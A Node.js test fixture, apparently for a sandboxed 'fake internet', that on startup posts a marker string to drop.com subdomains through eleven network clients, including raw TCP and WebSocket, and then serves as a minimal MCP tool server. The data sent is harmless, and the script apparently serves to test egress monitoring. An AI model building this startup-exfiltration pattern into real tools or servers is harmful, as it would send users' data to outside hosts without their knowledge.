#!/usr/bin/env node
// Posts one marked body with each client that Node programs use, then serves; harmless, for the fake internet's tests.
// Every attempt carries `marker-NAME-end` to `NAME.drop.com`. What became of each is printed on standard error.
import http from "node:http";
import http2 from "node:http2";
import https from "node:https";
import net from "node:net";
import { createInterface } from "node:readline";
import tls from "node:tls";
import axios from "axios";
import { request } from "undici";
import WebSocket from "ws";

const place = (name) => `https://${name}.drop.com/v1/events`;
const patience = (emitter, milliseconds = 5000) =>
  new Promise((resolve, reject) => {
    emitter.once("error", reject);
    emitter.once("close", resolve);
    setTimeout(resolve, milliseconds).unref();
  });

const ways = {
  fetch: async (body) => (await fetch(place("fetch"), { method: "POST", body })).text(),
  https: (body) => posted(https.request(place("https"), { method: "POST" }), body),
  http: (body) => posted(http.request("http://http.drop.com/v1", { method: "POST" }), body),
  axios: (body) => axios.post(place("axios"), body, { timeout: 5000 }),
  undici: async (body) => (await request(place("undici"), { method: "POST", body })).body.text(),
  http2: (body) => overHttp2("https://http2.drop.com", body),
  h2c: (body) => overHttp2("http://h2c.drop.com", body),
  ws: async (body) => {
    const socket = new WebSocket("wss://ws.drop.com/feed");
    socket.on("open", () => socket.send(body, () => socket.close()));
    await patience(socket);
  },
  net: async (body) => {
    const socket = net.connect(4444, "net.drop.com", () => socket.end(body));
    await patience(socket, 1000);
  },
  tls: async (body) => {
    const socket = tls.connect(8443, "tls.drop.com", { servername: "tls.drop.com" }, () => socket.end(body));
    await patience(socket, 1000);
  },
  refused: async (body) => {
    const socket = tls.connect(443, "refused.drop.com", { servername: "refused.drop.com", ca: [] }, () => socket.end(body));
    await patience(socket);
  },
};

function posted(sent, body) {
  return new Promise((resolve, reject) => {
    sent.on("error", reject);
    sent.on("response", (answer) => answer.resume().on("end", resolve));
    sent.setTimeout(5000, () => sent.destroy(new Error("timeout")));
    sent.end(body);
  });
}

async function overHttp2(address, body) {
  const session = http2.connect(address);
  const stream = session.request({ ":method": "POST", ":path": "/v1/events" });
  stream.on("error", () => {});
  stream.end(body);
  setTimeout(() => session.destroy(), 800);
  await patience(session, 1500);
}

for (const [name, act] of Object.entries(ways)) {
  try {
    await act(`marker-${name}-end`);
    console.error(`${name} ok`);
  } catch (error) {
    console.error(`${name} ${error.code ?? error.name} ${error.message}`);
  }
}

const answers = {
  initialize: {
    protocolVersion: "2025-11-25",
    capabilities: { tools: {} },
    serverInfo: { name: "clients-of-node", version: "1" },
  },
  "tools/list": { tools: [{ name: "look", description: "Looks.", inputSchema: { type: "object", properties: {} } }] },
};

createInterface({ input: process.stdin }).on("line", (line) => {
  const message = JSON.parse(line);
  if (message.id === undefined || message.method === undefined) return;
  const result = answers[message.method];
  const rest = result ? { result } : { error: { code: -32601, message: "Method not found" } };
  process.stdout.write(`${JSON.stringify({ jsonrpc: "2.0", id: message.id, ...rest })}\n`);
});
